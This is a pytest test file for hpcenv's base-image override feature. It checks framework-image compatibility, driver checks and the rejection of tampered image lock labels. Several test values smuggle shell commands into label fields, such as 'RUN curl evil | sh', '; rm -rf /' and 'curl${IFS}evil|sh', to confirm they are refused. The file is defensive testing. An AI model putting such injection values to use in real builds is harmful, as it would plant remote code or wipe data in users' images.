"""A recipe's base-image override (``user.base``, issue 22): a prebuilt framework image or an
image hpcenv built, used where hpcenv proves it fits, refused in one line where it does not."""

from __future__ import annotations

import json
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest
from requirements import need_image

from hpcenv.errors import ConfigError
from hpcenv.prebuilt import LOCK_LABEL, resolve_on_base
from hpcenv.recipe import load_recipe
from hpcenv.render import render
from hpcenv.resolver import resolve
from hpcenv.site import load_site

HPCENV = Path(sys.executable).with_name("hpcenv")
NGC = "nvcr.io/nvidia/pytorch:25.12-py3"
ROCM = "docker.io/rocm/pytorch:rocm6.3_ubuntu22.04_py3.10_pytorch_release_2.4.0"
LOCAL = "localhost/hpcenv/horovod-cpu:local"


def recipe_file(folder: Path, base: str, extra: str = "", extends: str = "torch-gpu") -> Path:
    path = folder / "proj.yaml"
    comps = "components: {torch: required}\n" if extends == "torch-gpu" else ""
    path.write_text(
        f"name: proj\nextends: {extends}\n{comps}user:\n  base: {base}\n"
        + textwrap.indent(extra, "  "),
        encoding="utf-8",
    )
    return path


def rocm63_site(folder: Path) -> Path:
    """Frontier with ROCm 6.3 on its nodes (the extends form of docs/site-authoring.md)."""
    path = folder / "frontier63.yaml"
    path.write_text(
        "extends: frontier\nname: frontier63\ngpu: {vendor: amd, rocm: '6.3.1'}\n"
        "modules: [PrgEnv-gnu/8.7.0, cpe/26.03, rocm/6.3.1, craype-accel-amd-gfx90a, "
        "cray-mpich-abi/9.1.0, rccl-net-plugin]\n",
        encoding="utf-8",
    )
    return path


def run(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [str(HPCENV), *args], capture_output=True, text=True, cwd=cwd, timeout=120
    )


def test_ngc_base_on_perlmutter_takes_the_images_versions(tmp_path: Path) -> None:
    site = load_site("perlmutter")
    lock = resolve(site, load_recipe(str(recipe_file(tmp_path, NGC, "pip: [six]\n"))))
    assert lock.components["torch"].version == "2.10.0a0+b4e4ee81d3"
    assert lock.components["cuda"].version == "13.1"
    assert lock.components["torch"].source == "base image"
    assert "cuda-driver" in lock.rules and NGC in lock.rules["base-image"]
    # the user's pip step is held to the torch the image itself reports, read in the build
    # (the release notes' name for it may not be the image's own version string)
    assert "torch" not in lock.user_content["constraints"]
    rendered = render(lock, site)
    assert f"FROM {NGC} AS runtime" in rendered.dockerfile
    assert "pip install --no-cache-dir torch" not in rendered.dockerfile
    assert 'io.hpcenv.component.torch="2.10.0a0+b4e4ee81d3"' in rendered.dockerfile
    assert "torch==" not in rendered.user_inputs["hpcenv-user/constraints.txt"]
    assert "print('torch==' + torch.__version__)" in rendered.dockerfile.replace("'\"'\"'", "'")
    assert "-c /opt/hpcenv/base-constraints.txt six" in rendered.dockerfile


def test_rocm_base_on_a_rocm63_frontier(tmp_path: Path) -> None:
    site = load_site(str(rocm63_site(tmp_path)))
    lock = resolve(site, load_recipe(str(recipe_file(tmp_path, ROCM))))
    assert lock.components["rocm"].version == "6.3"
    assert lock.components["rccl"].version == "2.21.5"
    assert lock.components["torch"].version == "2.4.0"
    assert f"FROM {ROCM} AS runtime" in render(lock, site).dockerfile


def test_hpcenv_built_base_uses_its_labelled_lock(tmp_path: Path) -> None:
    site = load_site("local")
    built = resolve(site, load_recipe("horovod-cpu"))
    labels = {LOCK_LABEL: built.to_json()}
    recipe = load_recipe(str(recipe_file(tmp_path, LOCAL, extends="horovod-cpu")))
    lock = resolve_on_base(site, recipe, {}, LOCAL, inspect=lambda image: labels)
    assert lock.components["torch"].version == built.components["torch"].version
    assert lock.build["base_image"] == LOCAL and lock.recipe == "proj"
    text = render(lock, site).dockerfile
    assert f"FROM {LOCAL} AS runtime" in text and "useradd" not in text
    with pytest.raises(ConfigError, match="built it for site local, not perlmutter"):
        resolve_on_base(load_site("perlmutter"), recipe, {}, LOCAL, inspect=lambda i: labels)
    with pytest.raises(ConfigError, match="cannot prove it fits"):
        resolve_on_base(site, recipe, {}, LOCAL, inspect=lambda image: None)


def test_the_data_names_a_source_for_every_image() -> None:
    from hpcenv.prebuilt import known_bases

    for image, facts in known_bases().items():
        assert "read 2026-11-24" in facts["source"], image
        assert facts["kind"] in ("cuda", "rocm") and facts["torch"] and facts["python"]


@pytest.mark.parametrize(
    ("site", "base", "args", "words"),
    [
        ("frontier", NGC, (), ("CUDA image", "amd GPUs")),
        ("local", NGC, (), ("CUDA image", "no GPUs")),
        ("perlmutter", ROCM, (), ("ROCM image", "nvidia GPUs")),
        ("frontier", ROCM, (), ("ROCm 6.3", "ROCm 7.1")),
        ("perlmutter", NGC, ("--set", "torch=2.2.0"), ("torch=2.2.0", "2.10.0a0+b4e4ee81d3")),
        ("perlmutter", "docker.io/library/python:3.12", (), ("cannot prove it fits",)),
    ],
)
def test_process_refusals(
    tmp_path: Path, site: str, base: str, args: tuple[str, ...], words: tuple[str, ...]
) -> None:
    recipe_file(tmp_path, base)
    proc = run("render", "-s", site, "-r", "./proj.yaml", "--format", "lock", *args, cwd=tmp_path)
    assert proc.returncode == 2, proc.stderr
    (line,) = proc.stderr.strip().splitlines()
    for w in words:
        assert w in line, line


def test_process_old_driver_is_refused(tmp_path: Path) -> None:
    site = tmp_path / "oldperl.yaml"
    site.write_text(
        "extends: perlmutter\nname: oldperl\ngpu: {vendor: nvidia, driver: '535.54.03'}\n"
    )
    recipe_file(tmp_path, NGC)
    proc = run("render", "-s", str(site), "-r", "./proj.yaml", "--format", "lock", cwd=tmp_path)
    assert proc.returncode == 2, proc.stderr
    (line,) = proc.stderr.strip().splitlines()
    assert "CUDA 13.1 needs driver >= 580.65.06" in line and "535.54.03" in line


def test_process_ngc_lock_carries_its_versions(tmp_path: Path) -> None:
    recipe_file(tmp_path, NGC)
    proc = run("render", "-s", "perlmutter", "-r", "./proj.yaml", "--format", "lock", cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    lock = json.loads(proc.stdout)
    assert lock["components"]["torch"]["version"] == "2.10.0a0+b4e4ee81d3"
    assert lock["build"]["base_image"] == NGC


@pytest.mark.podman
def test_podman_user_recipe_on_the_hpcenv_built_image(tmp_path: Path) -> None:
    """A user recipe whose base is the local horovod-cpu image: only the user's layers are
    built; torch is the base's and the user's package imports (the wheel from the site's
    wheelhouse/pip config, as tests/test_recipe_user.py installs tabulate)."""
    need_image(LOCAL, "a user recipe on the image hpcenv built")
    from hpcenv.engines import engine_env

    folder = tmp_path / "proj"
    folder.mkdir()
    recipe_file(folder, LOCAL, "pip: ['tabulate==0.9.0']\n", extends="horovod-cpu")
    tag = "localhost/hpcenv/proj:local"
    proc = run("build", "--site", "local", "--recipe", "./proj.yaml", "--format", "oci", cwd=folder)
    try:
        assert proc.returncode == 0, proc.stderr[-3000:]
        labels = subprocess.run(
            ["podman", "image", "inspect", "--format", "{{json .Config.Labels}}", LOCAL],
            capture_output=True,
            text=True,
            env=engine_env(),
            check=True,
        ).stdout
        base_torch = json.loads(json.loads(labels)[LOCK_LABEL])["components"]["torch"]["version"]
        out = subprocess.run(
            [
                "podman",
                "run",
                "--rm",
                tag,
                "python",
                "-c",
                "import tabulate, torch; print(tabulate.__version__, torch.__version__.split('+')[0])",
            ],
            capture_output=True,
            text=True,
            env=engine_env(),
            check=True,
        ).stdout.split()
        assert out == ["0.9.0", base_torch.split("+")[0]]
    finally:
        subprocess.run(["podman", "rmi", "-f", tag], capture_output=True, env=engine_env())


def _hostile(built_json: str) -> list[tuple[str, str]]:
    """Labels an image anyone built could carry, and the words of the one-line refusal."""
    doc = json.loads(built_json)
    user = json.loads(built_json)
    user["build"]["user"] = "hpc\nRUN curl evil | sh"
    version = json.loads(built_json)
    version["components"]["torch"]["version"] = "2.13.0 ; rm -rf /"
    build = json.loads(built_json)
    build["build"]["platform"] = "linux/amd64 ; x"
    deep: object = 1
    for _ in range(200):
        deep = [deep]
    return [
        ("{not json", "not JSON"),
        (json.dumps(user), "control character"),
        (json.dumps(version), "components.torch.version"),
        (json.dumps(build), "build.platform"),
        (json.dumps({**doc, "components": deep}), "nested too deep"),
        ("x" * ((1 << 20) + 1), "at most"),
        (json.dumps({**doc, "schema": 2}), "schema"),
    ]


def test_a_hostile_lock_label_is_refused_in_one_line(tmp_path: Path) -> None:
    """The label is read back from an image anyone may have built: nothing of it reaches a
    Dockerfile unless it has the shape hpcenv writes."""
    site = load_site("local")
    built = resolve(site, load_recipe("horovod-cpu")).to_json()
    recipe = load_recipe(str(recipe_file(tmp_path, LOCAL, extends="horovod-cpu")))
    for text, words in _hostile(built):
        with pytest.raises(ConfigError) as err:
            resolve_on_base(site, recipe, {}, LOCAL, inspect=lambda image, t=text: {LOCK_LABEL: t})
        line = str(err.value)
        assert "\n" not in line and f"its {LOCK_LABEL} label is not a lock" in line, line
        assert words in line, (words, line)


@pytest.mark.podman
def test_podman_image_with_a_planted_lock_label_is_refused(tmp_path: Path) -> None:
    """A real image whose lock label was planted (a newline in the user a USER line would name):
    the installed hpcenv exits 2 with one line and writes nothing."""
    need_image(LOCAL, "an image with a planted label on top of the local one")
    from hpcenv.engines import engine_env, get_engine

    built = resolve(load_site("local"), load_recipe("horovod-cpu")).to_json()
    doc = json.loads(built)
    doc["build"]["user"] = "hpc\nRUN echo planted"
    tag = "localhost/hpcenv/planted-label:test"
    ctx = tmp_path / "ctx"
    ctx.mkdir()
    (ctx / "Containerfile").write_text(
        f"FROM {LOCAL}\nLABEL {LOCK_LABEL}={json.dumps(json.dumps(doc))}\n", encoding="utf-8"
    )
    # the engine's own build (it takes the storage lock; a failure raises, naming its log)
    get_engine("podman").build(ctx, ctx / "Containerfile", tag, log_path=tmp_path / "planted.log")
    try:
        folder = tmp_path / "proj"
        folder.mkdir()
        recipe_file(folder, tag, extends="horovod-cpu")
        out = folder / "out"
        proc = run("render", "-s", "local", "-r", "./proj.yaml", "--out", str(out), cwd=folder)
        assert proc.returncode == 2, proc.stdout + proc.stderr
        (line,) = proc.stderr.strip().splitlines()
        assert f"its {LOCK_LABEL} label is not a lock" in line and "control character" in line
        assert not out.exists()
    finally:
        subprocess.run(["podman", "rmi", "-f", tag], capture_output=True, env=engine_env())


def _all_locks() -> list[tuple[str, str, str]]:
    from hpcenv.errors import ConflictError

    root = Path(__file__).resolve().parents[1]
    out = []
    for site_file in sorted((root / "site-configs").glob("*.yaml")):
        site = load_site(site_file.stem)
        for recipe_path in sorted((root / "recipes").glob("*.yaml")):
            try:
                lock = resolve(site, load_recipe(recipe_path.stem))
            except (ConfigError, ConflictError):
                continue  # refused for this site: nothing hpcenv would build or label
            out.append((site.name, recipe_path.stem, lock.to_json()))
    return out


def test_every_lock_hpcenv_writes_reads_back_as_a_base() -> None:
    """Each site x recipe lock hpcenv would put in a label passes the label check (e.g. the
    'site build' version of Perlmutter's NCCL plugin)."""
    from hpcenv.prebuilt import hpcenv_lock

    locks = _all_locks()
    assert len(locks) > 30
    for site, recipe, text in locks:
        read = hpcenv_lock("x", lambda image, t=text: {LOCK_LABEL: t})
        assert read is not None and read.site == site, (site, recipe)
        assert set(read.build) <= {"user", "platform", "engine", "jobs", "accelerator"}


def test_a_label_cannot_choose_the_build_path(tmp_path: Path) -> None:
    """A label saying the base was built from the OS's python, with a shell word in a package
    option: the user recipe still gets the prebuilt stage only (no apt-get, no venv, no
    useradd, nothing of the option), and an odd MPI implementation is no traceback."""
    site = load_site("local")
    doc = json.loads(resolve(site, load_recipe("horovod-cpu")).to_json())
    doc["build"]["python_from"] = "os"
    doc["components"]["mpi4py"]["options"] = {"package": "python3-mpi4py;curl${IFS}evil|sh"}
    doc["components"]["mpi"]["implementation"] = "foo"
    recipe = load_recipe(str(recipe_file(tmp_path, LOCAL, "pip: [six]\n", extends="horovod-cpu")))
    lock = resolve_on_base(
        site, recipe, {}, LOCAL, inspect=lambda image: {LOCK_LABEL: json.dumps(doc)}
    )
    assert "python_from" not in lock.build
    text = render(lock, site).dockerfile
    steps = text.split("\nLABEL ")[0]  # the labels carry the (escaped) lock, reasons and all
    assert "apt-get" not in steps and "evil" not in steps and "useradd" not in steps
    assert "python3 -m venv" not in steps and f"FROM {LOCAL} AS runtime" in steps


def test_pinning_exactly_the_bases_torch_is_accepted(tmp_path: Path) -> None:
    site = load_site("perlmutter")
    recipe = load_recipe(str(recipe_file(tmp_path, NGC)))
    for pin in ("2.10.0a0+b4e4ee81d3!", "2.10.0a0"):
        lock = resolve_on_base(site, recipe, {"torch": pin}, NGC)
        assert lock.components["torch"].version == "2.10.0a0+b4e4ee81d3"


def test_a_framework_base_keeps_its_own_path(tmp_path: Path) -> None:
    """The venv goes first on the image's own PATH (NGC's /usr/local/cuda/bin, a ROCm image's
    conda env and /opt/rocm/bin stay), in both formats."""
    site = load_site("perlmutter")
    out = render(resolve(site, load_recipe(str(recipe_file(tmp_path, NGC)))), site)
    assert 'ENV PATH="/opt/venv/bin:$PATH"' in out.dockerfile
    assert '    export PATH=/opt/venv/bin:"$PATH"' in out.singularity.splitlines()


def test_process_job_on_a_framework_base_keeps_the_images_mpi(tmp_path: Path) -> None:
    """On Perlmutter (bind model) a job on an NGC base: no --mpi module, no bind preflight,
    and a note saying so; hpcenv's own image keeps both."""
    recipe_file(tmp_path, NGC)
    args = ["submit", "-s", "perlmutter", "--account", "m1234", "--dry-run"]
    proc = run(*args, "-r", "./proj.yaml", "--", "python3", "train.py", cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    assert f"note: {NGC} is a framework image with its own communication stack" in proc.stderr
    launch = next(
        ln for ln in proc.stdout.splitlines() if ln.startswith("srun ") and "podman-hpc" in ln
    )
    assert " --mpi " not in launch and "--gpu --nccl" in launch
    assert "bind-preflight.sh" not in proc.stdout
    own = run(*args, "-r", "torch-gpu", "--", "python3", "train.py", cwd=tmp_path)
    assert own.returncode == 0, own.stderr
    assert "podman-hpc run --rm --gpu --mpi" in own.stdout and "bind-preflight.sh" in own.stdout
